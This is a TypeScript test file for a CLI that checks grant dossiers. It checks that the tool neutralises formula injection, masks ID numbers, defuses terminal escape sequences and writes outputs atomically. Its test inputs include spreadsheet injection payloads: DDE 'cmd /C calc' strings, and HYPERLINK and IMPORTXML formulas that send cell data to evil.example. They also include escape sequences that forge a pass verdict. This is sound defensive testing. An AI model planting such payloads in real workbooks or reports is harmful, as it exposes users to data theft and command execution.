// Outputs under attack (issue 6), through the CLI as a bureau runs it: formula injection in every
// workbook cell the applicant controls, ID numbers in every format, terminal escape sequences in the
// pretty report, outputs written atomically (the process killed mid-write leaves the old file), an
// output path that cannot be written (exit 2 with a message), and -o to a device, FIFO or symlink.
import { execFileSync, spawn } from 'node:child_process';
import { copyFileSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, symlinkSync, watch, writeFileSync, lstatSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse, stringify } from 'yaml';
import { AS_OF, ensureBuilt, kjhz, ROOT } from './cli-bin.js';
import { zipEntries } from './helpers/zip.js';

const SAMPLE = path.join(ROOT, 'samples/valid-key-country');
const ID = '140105199003070020';
const FULL_WIDTH_ID = ID.replace(/\d/g, (c) => String.fromCharCode(c.charCodeAt(0) + 0xfee0));
let base: string;

function folder(dir: string, edit: (d: Record<string, any>) => void, pdfs = true): string {
  mkdirSync(dir, { recursive: true });
  if (pdfs) for (const f of readdirSync(SAMPLE).filter((f) => f.endsWith('.pdf'))) copyFileSync(path.join(SAMPLE, f), path.join(dir, f));
  const d = parse(readFileSync(path.join(SAMPLE, 'dossier.yaml'), 'utf8')) as Record<string, any>;
  edit(d);
  writeFileSync(path.join(dir, 'dossier.yaml'), stringify(d, { lineWidth: 0 }));
  return dir;
}

beforeAll(() => {
  ensureBuilt();
  base = mkdtempSync(path.join(tmpdir(), 'kjhz-outputs-'));
});
afterAll(() => rmSync(base, { recursive: true, force: true }));

/** Every cell of every sheet: [sheet, address, cell]. */
async function cellsOf(file: string): Promise<[string, string, ExcelJS.Cell][]> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.readFile(file);
  const out: [string, string, ExcelJS.Cell][] = [];
  wb.eachSheet((ws) => ws.eachRow({ includeEmpty: false }, (row) => row.eachCell({ includeEmpty: false }, (cell) => out.push([ws.name, cell.address, cell]))));
  return out;
}

const INJECTIONS = {
  title: '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
  field: '+1+1',
  summary: "-2+3+cmd|' /C calc'!A0",
  applicant: "@SUM(1+1)*cmd|' /C calc'!A0",
  creditCode: '=1+1',
  registeredIn: '\t=1+1',
  recommender: '\r=1+1',
  lead: '=cmd|"/c calc"!A1',
  leadTitle: '-1+1',
  partner: '=IMPORTXML("http://evil.example","//a")',
  location: '+44 20 7946 0958',
  signatory: '@x',
  folder: '=1+2',
  other: '=2+2.pdf',
};

describe('the workbook: no cell the applicant controls becomes a formula', () => {
  it('every applicant text starting with = + - @ tab or CR is written as neutralised text, in every sheet', async () => {
    const batch = path.join(base, 'inject');
    folder(path.join(batch, INJECTIONS.folder), (d) => {
      d.project.title = INJECTIONS.title;
      d.project.field = INJECTIONS.field;
      d.project.summary = INJECTIONS.summary;
      d.applicant.name = INJECTIONS.applicant;
      d.applicant.creditCode = INJECTIONS.creditCode;
      d.applicant.registeredIn = INJECTIONS.registeredIn;
      d.applicant.recommender = INJECTIONS.recommender;
      d.lead.name = INJECTIONS.lead;
      d.lead.title = INJECTIONS.leadTitle;
      d.partners[0].name = INJECTIONS.partner;
      d.partners[0].location = INJECTIONS.location;
      d.partners[0].signatory.name = INJECTIONS.signatory;
      d.agreements[0].partner = INJECTIONS.partner;
      d.attachments.other = [INJECTIONS.other];
    });
    folder(path.join(batch, 'plain'), () => {});
    const xlsx = path.join(base, 'inject.xlsx');
    const r = await kjhz(['check', batch, '--xlsx', xlsx, '--format', 'json', '--as-of', AS_OF, '--jobs', '1']);
    expect(r.code, r.stderr).toBe(1);
    const cells = await cellsOf(xlsx);
    expect(cells.length).toBeGreaterThan(50);
    for (const [sheet, address, cell] of cells) {
      expect(cell.type, `${sheet}!${address}`).not.toBe(ExcelJS.ValueType.Formula);
      expect(cell.formula, `${sheet}!${address}`).toBeUndefined();
      if (typeof cell.value === 'string') expect(cell.value, `${sheet}!${address}`).not.toMatch(/^[=+\-@\t\r]/);
    }
    // the values are there, neutralised with a leading apostrophe (not dropped)
    const texts = cells.map(([, , c]) => (typeof c.value === 'string' ? c.value : ''));
    for (const key of ['title', 'field', 'applicant', 'lead', 'partner'] as const) {
      expect(texts.some((t) => t.startsWith(`'`) && t.includes(INJECTIONS[key].trim().slice(0, 8))), key).toBe(true);
    }
    expect(texts.some((t) => t.includes(`${INJECTIONS.folder}/dossier.yaml`)), 'folder').toBe(true);
    // and no part of the file holds a formula element, whatever a reader shows
    for (const [name, xml] of zipEntries(readFileSync(xlsx))) if (name.endsWith('.xml')) expect(xml.toString('utf8'), name).not.toMatch(/<f[ >]/);
  }, 90_000);
});

describe('ID numbers: masked in every format', () => {
  it('the lead ID number, also typed into a title, a name, a key and a file name, appears in no output', async () => {
    const dir = folder(path.join(base, 'ids', `张三${ID}`), (d) => {
      d.lead.idNumber = ID;
      d.project.title = `${d.project.title}（负责人身份证${ID}）`;
      d.project.summary = `负责人身份证号码：${FULL_WIDTH_ID}`;
      d.lead.name = `${d.lead.name} ID${ID}`;
      d.project[`x${ID}`] = 1;
      d.attachments.other = [`身份证${ID}.pdf`];
    }, false);
    const outputs: Record<string, string> = {};
    for (const format of ['pretty', 'json', 'junit', 'markdown', 'html', 'sarif', 'github', 'compact']) {
      const out = path.join(base, `ids.${format}`);
      const r = await kjhz(['check', dir, '--format', format, '-o', out, '--as-of', AS_OF, '--no-pdf']);
      expect(r.code, r.stderr).toBe(1);
      outputs[format] = readFileSync(out, 'utf8') + r.stdout + r.stderr;
    }
    const xlsx = path.join(base, 'ids.xlsx');
    const r = await kjhz(['check', dir, '--xlsx', xlsx, '--as-of', AS_OF, '--no-pdf']);
    outputs.xlsxRun = r.stdout + r.stderr;
    for (const [name, xml] of zipEntries(readFileSync(xlsx))) outputs[`xlsx:${name}`] = xml.toString('utf8');
    for (const [name, text] of Object.entries(outputs)) {
      expect(text.includes(ID), `${name} shows the ID number`).toBe(false);
      expect(text.includes(FULL_WIDTH_ID), `${name} shows the full-width ID number`).toBe(false);
    }
    // masked, not dropped: the first 6 and last 4 are there
    expect(outputs.json).toContain('140105********0020');
  }, 90_000);
});

describe('the pretty report: applicant text cannot drive the terminal', () => {
  it('escape sequences, carriage returns and bidi overrides are shown, not obeyed', async () => {
    const dir = folder(path.join(base, 'tty'), (d) => {
      d.project.title = 'x\u001b[2J\u001b]0;pwned\u0007\r  形式审查预检通过：未发现错误';
      d.applicant.name = '合同\u202Efdp.exe';
      d.attachments.other = ['a\u001b[31mred.pdf'];
    }, false);
    const r = await kjhz(['check', dir, '--as-of', AS_OF, '--no-pdf']);
    expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F\u202E]/);
    expect(r.stdout).toContain('␛[2J');
    expect(r.stdout).toContain('<U+202E>');
    // the forged verdict is on the title's line, visibly, not a line of its own
    expect(r.stdout.split('\n').filter((l) => l.trim().startsWith('形式审查预检通过'))).toEqual([]);
  }, 60_000);
});

describe('outputs are written atomically', () => {
  const kill = async (args: string[], target: string): Promise<{ sawTemp: boolean }> => {
    const dir = path.dirname(target);
    const child = spawn(process.execPath, [path.join(ROOT, 'bin/kjhz.js'), ...args], { cwd: ROOT, stdio: 'ignore', env: { ...process.env, NO_COLOR: '1' } });
    let sawTemp = false;
    const watcher = watch(dir, (_event, name) => {
      if (name && String(name).startsWith(`.${path.basename(target)}.`) && String(name).endsWith('.tmp')) {
        sawTemp = true;
        child.kill('SIGKILL');
      }
    });
    await new Promise<void>((resolve) => child.on('exit', () => resolve()));
    watcher.close();
    return { sawTemp };
  };

  it('a run killed while writing the workbook or the report leaves the previous file as it was', async () => {
    const DOSSIERS = 60;
    const batch = path.join(base, 'many');
    for (let i = 0; i < DOSSIERS; i++) folder(path.join(batch, `d${String(i).padStart(3, '0')}`), (d) => (d.project.title = `${d.project.title}${i}`), false);
    const xlsx = path.join(base, 'atomic', '汇总.xlsx');
    const json = path.join(base, 'atomic', 'report.json');
    mkdirSync(path.dirname(xlsx), { recursive: true });
    const OLD = Buffer.from('the previous good file');
    let killedMidWrite = 0;
    for (let round = 0; round < 2; round++) {
      writeFileSync(xlsx, OLD);
      writeFileSync(json, OLD);
      const a = await kill(['check', batch, '--no-pdf', '--as-of', AS_OF, '--xlsx', xlsx, '--jobs', '1', '-q'], xlsx);
      if (a.sawTemp) killedMidWrite += 1;
      expect(readFileSync(xlsx).equals(OLD), 'xlsx replaced by a partial file').toBe(true);
      const b = await kill(['check', batch, '--no-pdf', '--as-of', AS_OF, '--format', 'json', '-o', json, '--jobs', '1'], json);
      // killed before the rename (old file) or after it (a whole report): never a partial one
      const now = readFileSync(json);
      if (!now.equals(OLD)) expect(() => JSON.parse(now.toString('utf8'))).not.toThrow();
      if (b.sawTemp && now.equals(OLD)) killedMidWrite += 1;
    }
    expect(killedMidWrite, 'no kill landed while a temporary file was being written').toBeGreaterThan(0);
    // a run left alone replaces the files with complete ones
    const r = await kjhz(['check', batch, '--no-pdf', '--as-of', AS_OF, '--xlsx', xlsx, '--format', 'json', '-o', json, '--jobs', '1', '-q']);
    expect(r.code, r.stderr).toBe(1); // (no attachments in these dossiers)
    expect(JSON.parse(readFileSync(json, 'utf8')).dossiers).toHaveLength(DOSSIERS);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsx);
    expect(wb.worksheets.length).toBeGreaterThan(1);
  }, 180_000);
});

describe('output paths', () => {
  it('an output that cannot be written is exit 2 with a message, and nothing half-written is left', async () => {
    const dir = folder(path.join(base, 'unwritable'), () => {}, false);
    const aFile = path.join(base, 'a-file.txt');
    writeFileSync(aFile, 'x');
    const cases: string[][] = [
      ['-o', path.join(base, 'no-such-dir', 'r.json')],
      ['-o', path.join(aFile, 'r.json')], // parent is a file
      ['-o', base], // a directory
      ['-o', '/proc/kjhz-report.json'], // not writable even by root
      ['--xlsx', path.join(base, 'no-such-dir', 'r.xlsx')],
      ['--xlsx', path.join(aFile, 'r.xlsx')],
      ['--xlsx', '/proc/kjhz.xlsx'],
    ];
    for (const args of cases) {
      const r = await kjhz(['check', dir, '--no-pdf', '--as-of', AS_OF, ...args]);
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(2);
      expect(r.stderr, args.join(' ')).toMatch(/^kjhz: .+/m);
      expect(r.stderr, args.join(' ')).not.toMatch(/\n\s+at /); // no stack trace
    }
    expect(readdirSync(base).filter((f) => f.endsWith('.tmp'))).toEqual([]);
  }, 120_000);

  it('-o to a FIFO or a device is written to, not replaced by a file; -o to a symlink replaces the file it points to', async () => {
    const dir = folder(path.join(base, 'devices'), () => {}, false);
    const fifo = path.join(base, 'report.fifo');
    execFileSync('mkfifo', [fifo]);
    const reader = new Promise<string>((resolve) => {
      const cat = spawn('cat', [fifo]);
      let s = '';
      cat.stdout.setEncoding('utf8').on('data', (d: string) => (s += d));
      cat.on('exit', () => resolve(s));
    });
    const r = await kjhz(['check', dir, '--no-pdf', '--as-of', AS_OF, '--format', 'json', '-o', fifo]);
    expect(r.code, r.stderr).toBe(1); // (no attachments in this dossier)
    expect(JSON.parse(await reader).dossiers).toHaveLength(1);
    expect(lstatSync(fifo).isFIFO()).toBe(true);
    const devNull = await kjhz(['check', dir, '--no-pdf', '--as-of', AS_OF, '-o', '/dev/null']);
    expect(devNull.code, devNull.stderr).toBe(1);
    expect(lstatSync('/dev/null').isCharacterDevice()).toBe(true);
    expect(existsSync('/dev/.null.tmp')).toBe(false);
    const real = path.join(base, 'real.json');
    const link = path.join(base, 'link.json');
    writeFileSync(real, '{}');
    symlinkSync('real.json', link);
    const viaLink = await kjhz(['check', dir, '--no-pdf', '--as-of', AS_OF, '--format', 'json', '-o', link]);
    expect(viaLink.code, viaLink.stderr).toBe(1);
    expect(lstatSync(link).isSymbolicLink()).toBe(true);
    expect(JSON.parse(readFileSync(real, 'utf8')).dossiers).toHaveLength(1);
  }, 60_000);
});
